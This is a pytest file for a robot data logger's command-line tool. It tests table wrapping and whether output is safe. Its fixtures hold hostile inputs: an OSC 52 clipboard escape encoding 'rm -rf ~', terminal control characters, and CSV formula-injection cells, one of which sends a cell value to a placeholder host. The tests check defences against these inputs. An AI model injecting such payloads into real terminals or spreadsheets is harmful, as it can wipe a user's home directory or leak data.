"""Tables of any width fit a terminal without a broken word; without a terminal they are as wide as they need.

What a robot wrote is printed as text: it moves no cursor, is not a formula, and stays on its line, whatever it is read by.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from lake import bad_parts
from lake.making import NOON_NS, add_part, folder_store, row
from rich.console import Console

from shadowhound_data_logger.cli.main import main
from shadowhound_data_logger.cli.missions import missions
from shadowhound_data_logger.cli.output import plain, plain_table, print_page
from shadowhound_data_logger.cli.query import query
from shadowhound_data_logger.core.config import UploadSettings
from shadowhound_data_logger.core.untrusted import csv_cell, visible
from shadowhound_data_logger.missions.folder import new_folder
from shadowhound_data_logger.missions.journal import Journal
from shadowhound_data_logger.stores import open_store

TOPIC = '/oakd/rgb/preview/image_raw/compressed'
ROWS = (
    (TOPIC, '2026-11-28 02:45:50.123', '1,234,567', 'transport'),
    ('/imu', '-', '7', 'the network, or a robot without spare CPU'),
)
NAMES = ('topic', 'from (UTC)', 'messages', 'cause')


def printed(width: int, *, is_terminal: bool = True) -> list[str]:
    table = plain_table('Gaps', NAMES, ('topic', 'from (UTC)', 'cause'))
    for line in ROWS:
        table.add_row(*map(plain, line))
    console = Console(file=io.StringIO(), width=width, force_terminal=is_terminal, color_system=None, legacy_windows=False)
    print_page(table, console=console)
    assert isinstance(console.file, io.StringIO)
    return re.sub(r'\x1b\[[0-9;]*m', '', console.file.getvalue()).splitlines()


@pytest.mark.parametrize('width', [52, 60, 72, 80, 100, 200])
def test_no_word_is_broken_and_no_line_is_too_long(width: int) -> None:
    """All words of all cells are printed unbroken."""
    lines = printed(width)
    words = [word for line in lines for word in line.split()]
    assert max(map(len, lines)) <= width
    for word in ' '.join(value for line in ROWS for value in line).split():
        assert word in words, word


def test_a_table_that_is_too_wide_is_a_list_of_names_and_values() -> None:
    """One block per row."""
    lines = [line.rstrip() for line in printed(60)]
    assert lines[:2] == ['Gaps', f'topic       {TOPIC}']
    assert lines.count('') == 1


def test_a_file_gets_the_complete_table() -> None:
    """Even if the terminal is narrow."""
    lines = printed(40, is_terminal=False)
    assert [line.split()[0] for line in lines] == ['Gaps', 'topic', TOPIC, '/imu']


CLIPBOARD = '\x1b]52;c;cm0gLXJmIH4=\x07'
"""OSC 52: puts a command into the clipboard."""
EVIL = {
    'key': f'thor/camera/{CLIPBOARD}\nsensor-data/tachi/b\r\x9b31m\u202e.jpg',
    'topic': '=HYPERLINK("http://x/"&A1)', 'mission_type': '+1+1', 'pose_frame': '-2+3', 'sensor': '@SUM(A1)', 'type': '\t=1',
    'clock': ' =1', 'content_type': '＝1', 'run_id': '-12.5', 'x': -1.5,
}  # fmt: skip


@pytest.fixture
def home(tmp_path: Path) -> Path:
    with closing(open_store(folder_store(tmp_path), UploadSettings())) as store:
        add_part(store, [{**row('camera', NOON_NS), **EVIL}], 'evil', tmp_path / 'tmp')
    return tmp_path


def run(home: Path, *arguments: str, command: Any = query) -> Result:
    env = {'SHADOWHOUND_HOME': str(home), 'COLUMNS': '200', 'AWS_ENDPOINT_URL': ''}
    found = CliRunner().invoke(command, arguments, env=env, standalone_mode=False)
    assert found.exception is None, found.exception
    return found


def is_harmless(text: str) -> bool:
    """Whether it contains no control characters except line breaks."""
    return all(line == visible(line) for line in text.split('\n'))


@pytest.mark.parametrize('kind', ['table', 'csv', 'json', 'keys'])
def test_no_control_character_reaches_the_terminal(home: Path, kind: str) -> None:
    """In any format, even if SQL renames the column."""
    for arguments in ((), ('SELECT bucket, key, topic AS "a\x1b[31m" FROM objects',)):
        found = run(home, *arguments, '--format', kind)
        assert is_harmless(found.output)
        assert 'thor/camera/' in found.output


def test_a_key_is_one_line(home: Path) -> None:
    """A program that reads keys line by line gets only existing keys."""
    assert len(run(home, '--format', 'keys').output.splitlines()) == 1


def test_csv_holds_no_formulas(home: Path) -> None:
    """Text that a spreadsheet would evaluate gets a leading quote; numbers, also negative ones, are unchanged."""
    found = next(csv.DictReader(io.StringIO(run(home, '--format', 'csv').output)))
    texts = {name: found[name] for name in EVIL if name != 'key'}
    assert texts == {
        'topic': '\'=HYPERLINK("http://x/"&A1)', 'mission_type': "'+1+1", 'pose_frame': "'-2+3", 'sensor': "'@SUM(A1)",
        'type': '\\t=1', 'clock': "' =1", 'content_type': "'＝1", 'run_id': '-12.5', 'x': '-1.5',
    }  # fmt: skip
    assert '\n' not in found['key']


def test_a_mission_is_exported_the_same_way(tmp_path: Path) -> None:
    """With text that an agent logged, as CSV."""
    folder = new_folder(tmp_path, 'patrol', NOON_NS)
    journal = Journal(folder.journal)
    journal.create()
    journal.append({'k': 'start', 't': NOON_NS, 'type': 'patrol', 'command': '=cmd()', 'robot': 'thor', 'params': {}, 'tags': {}})
    journal.append({'k': 'event', 't': NOON_NS, 'name': f'@x{CLIPBOARD}', 'data': {'a': 1}})
    journal.append({'k': 'metric', 't': NOON_NS, 'key': '+a', 'value': -2.5, 'step': 0})
    journal.close()
    found = run(tmp_path, 'export', '--format', 'csv', folder.mission_id, command=missions)
    rows = list(csv.reader(io.StringIO(found.output)))
    assert is_harmless(found.output)
    assert not [cell for one in rows for cell in one if cell[:1] in set('=+@')]
    assert "'@x" in found.output


def test_an_error_shows_hostile_text_as_text(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """On standard error, as the console script prints it."""
    key = bad_parts.put(folder_store(home), b'', f'thor_{CLIPBOARD}')
    monkeypatch.setenv('SHADOWHOUND_HOME', str(home))
    monkeypatch.setenv('AWS_ENDPOINT_URL', '')
    for arguments in (
        ['query', '--json'],
        ['bag', 'fetch', CLIPBOARD, '--to', str(home)],
    ):
        monkeypatch.setattr(sys, 'argv', ['shadowhound-data', *arguments])
        with pytest.raises(SystemExit) as caught:
            main()
        assert caught.value.code in {1, 2}
        captured = capsys.readouterr()
        assert is_harmless(captured.err)
        assert is_harmless(captured.out)
        assert visible(CLIPBOARD)[4:10] in captured.err
    assert CLIPBOARD in key


@pytest.mark.parametrize(
    ('value', 'cell'),
    [
        ('-0.6', '-0.6'),
        ('1e5', '1e5'),
        ('-', "'-"),
        (-3, -3),
        (None, None),
        (True, True),
        ('', ''),
        ('a=b', 'a=b'),
        ('-1-2', "'-1-2"),
    ],
)
def test_text_that_a_spreadsheet_would_compute_is_quoted(value: Any, cell: Any) -> None:
    """A text that is a number is not a formula."""
    assert csv_cell(value) == cell


def test_json_is_ascii(home: Path) -> None:
    """It parses to the same text."""
    rows = json.loads(run(home, '--json').output)
    assert rows[0]['key'] == EVIL['key']


def test_minor_columns_are_omitted_before_rows_are_expanded() -> None:
    """As many as needed, the first one first, and the caption names them; if that is not enough, every value is shown."""

    def shown(width: int) -> str:
        table = plain_table('', ('key', 'bytes', 'x', 'mission'), ('key', 'mission'), minor=('mission', 'x'))
        table.add_row('thor/camera/1.jpg', '40,215', '0.12', 'patrol')
        output = io.StringIO()
        console = Console(file=output, width=width, force_terminal=True, color_system=None)
        print_page(table, console=console)
        return output.getvalue()

    assert 'patrol' in shown(40)
    assert 'Not shown' not in shown(40)
    assert ('patrol' in shown(32), '0.12' in shown(32), 'Not shown: mission' in shown(32)) == (False, True, True)
    assert ('0.12' in shown(26), 'mission, x' in ' '.join(shown(26).split())) == (False, True)
    assert ('patrol' in shown(20), 'Not shown' in shown(20)) == (True, False)
